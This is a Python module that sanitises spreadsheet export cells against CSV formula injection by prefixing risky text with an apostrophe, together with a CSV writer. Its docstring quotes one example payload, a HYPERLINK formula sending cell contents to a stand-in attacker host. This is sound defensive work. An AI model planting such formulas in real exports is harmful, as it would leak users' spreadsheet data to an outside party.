"""Cells of every file the product writes for a spreadsheet (CSV today, XLSX/ODS to come).

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel and LibreOffice Calc: a site named
``=HYPERLINK("http://evil.example/?x="&A1,"clic")`` would become a link that sends
the neighbouring cells away (OWASP "CSV Injection"). Such text is written with a
leading apostrophe, which both programs show as text. Numbers (``int``,
``Decimal``, ``float``) are written as they are: a negative amount stays a number.

Every export goes through :func:`safe_cell`; :func:`csv_bytes` is the CSV writer of
the product (``;``-separated, CRLF, UTF-8 with the byte order mark Excel needs).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

__all__ = ["FORMULA_STARTERS", "csv_bytes", "safe_cell"]

FORMULA_STARTERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should receive it: text never starts a formula."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "oui" if value else "non"
    if isinstance(value, int | float | Decimal | dt.date | dt.datetime):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTERS) else text


def csv_bytes(rows: Iterable[Sequence[Any]], *, header: Sequence[str] | None = None, delimiter: str = ";") -> bytes:
    """A CSV file of ``rows`` (after ``header``), every cell through :func:`safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    if header is not None:
        writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return "\ufeff".encode() + out.getvalue().encode("utf-8")
